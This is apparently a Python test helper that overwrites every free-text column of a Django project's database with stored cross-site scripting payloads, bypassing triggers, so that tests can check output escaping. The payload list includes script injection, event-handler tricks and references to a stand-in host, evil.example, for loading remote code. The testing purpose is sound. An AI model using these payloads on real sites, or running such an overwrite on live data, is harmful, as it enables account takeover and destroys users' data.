"""Scripts that people could write where a text is asked for, brought into every text of the database."""

from itertools import count
from typing import Any

import psycopg
from django.apps import apps
from django.db import models
from psycopg import sql

# The rooms whose rows people fill; the outbox holds what was made of them.
APPS = frozenset({"accounts", "organizations", "products", "billing"})

RUN = "window.__xss=1"
PAYLOADS = (
    "<script>window.__xss=1</script>",
    "<script>alert(1)</script>",
    "</script><script>window.__xss=1</script>",
    "</title><script>window.__xss=1</script>",
    "</textarea><script>window.__xss=1</script>",
    "</style><script>window.__xss=1</script>",
    "--><script>window.__xss=1</script>",
    "]]><script>window.__xss=1</script>",
    "<ScRiPt>window.__xss=1</sCrIpT>",
    "<scr<script>ipt>window.__xss=1</script>",
    "<script src=data:,window.__xss=1></script>",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=window.__xss=1>",
    "<img/src=x/onerror=window.__xss=1>",
    '"><img src=x onerror=window.__xss=1>',
    "'><img src=x onerror=window.__xss=1>",
    "`><img src=x onerror=window.__xss=1>",
    '" onfocus=window.__xss=1 autofocus x="',
    "' onfocus=window.__xss=1 autofocus x='",
    " onmouseover=window.__xss=1 ",
    '" style="animation:x" onanimationstart="window.__xss=1',
    "<svg onload=window.__xss=1>",
    "<svg/onload=window.__xss=1>",
    "<svg><script>window.__xss=1</script></svg>",
    "<math><mi href=javascript:window.__xss=1>x",
    "<body onload=window.__xss=1>",
    "<iframe srcdoc='<script>parent.__xss=1</script>'>",
    "<iframe src=javascript:parent.__xss=1>",
    "<object data=javascript:window.__xss=1>",
    "<embed src=javascript:window.__xss=1>",
    "<details open ontoggle=window.__xss=1>",
    "<video><source onerror=window.__xss=1>",
    "<input autofocus onfocus=window.__xss=1>",
    "<a href=javascript:window.__xss=1>x</a>",
    "javascript:window.__xss=1//",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:window.__xss=1'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{background:url(//evil.example)}</style>",
    "<form action=//evil.example><button>x",
    "{{constructor.constructor('window.__xss=1')()}}",
    "${window.__xss=1}",
    "';window.__xss=1;//",
    '";window.__xss=1;//',
    "\\u003cimg src=x onerror=window.__xss=1\\u003e",
    "&lt;img src=x onerror=window.__xss=1&gt;",
)
SHORT = ("<b onclick=a>", "<q>", "<a>", "'\"<")

# Columns that hold no words of anybody: keys, codes and states that the panel itself writes and compares.
OURS = (
    "_data",
    "_hash", "_key", "_digest", "_secret", "_id", "key", "secret", "digest", "hash", "password", "token",
    "status", "state", "kind", "currency", "country", "language", "time_zone", "slug", "reference", "gateway",
    "level", "role", "color", "theme", "permission", "scopes", "mime_type", "logo_type", "family",
    "fingerprint", "public", "client", "addresses", "number", "code", "topics", "unit", "client_id",
    "template", "purpose", "provider", "version", "initiator", "way", "series",
    "phone", "aaguid", "algorithm", "prefix",
)  # fmt: skip


def texts_of(model: type[models.Model]) -> list[models.Field]:
    """Return the fields of a model that hold words."""
    return [
        one
        for one in model._meta.concrete_fields
        if isinstance(one, models.CharField | models.TextField)
        and not one.choices
        and not any(one.column == name or one.column.endswith(name) for name in OURS)
    ]


def write_scripts(database: psycopg.Connection) -> list[str]:
    """Put a script into each text of each row; return the columns that hold one now.

    It is written past the panel, in sessions without triggers: what a form would have refused is there, too.
    """
    numbers, written = count(), []
    with database.transaction():
        database.execute("SET LOCAL session_replication_role = replica")
        for model in apps.get_models():
            if model._meta.app_label not in APPS or model._meta.proxy:
                continue
            written += [
                f"{model._meta.db_table}.{one.column}"
                for one in texts_of(model)
                if _write(database, model, one, numbers)
            ]
    return written


def _write(database: psycopg.Connection, model: type[models.Model], one: models.Field, numbers: Any) -> bool:
    table, column = (sql.Identifier(name) for name in (model._meta.db_table, one.column))
    key = sql.Identifier(model._meta.pk.column)
    rows = database.execute(sql.SQL("SELECT {0} FROM {1} ORDER BY {0}").format(key, table)).fetchall()
    update = sql.SQL("UPDATE {} SET {} = %s WHERE {} = %s").format(table, column, key)
    done = 0
    for (row,) in rows:
        payload = _payload(next(numbers), one.max_length or 1000)
        try:
            with database.transaction():
                database.execute(update, [payload, row])
        except (psycopg.errors.IntegrityError, psycopg.errors.DataError):
            continue
        done += 1
    return done > 0


def _payload(number: int, length: int) -> str:
    fitting = [text for text in PAYLOADS if len(text) <= length]
    chosen = fitting or [text for text in SHORT if len(text) <= length] or ["<"]
    return chosen[number % len(chosen)]
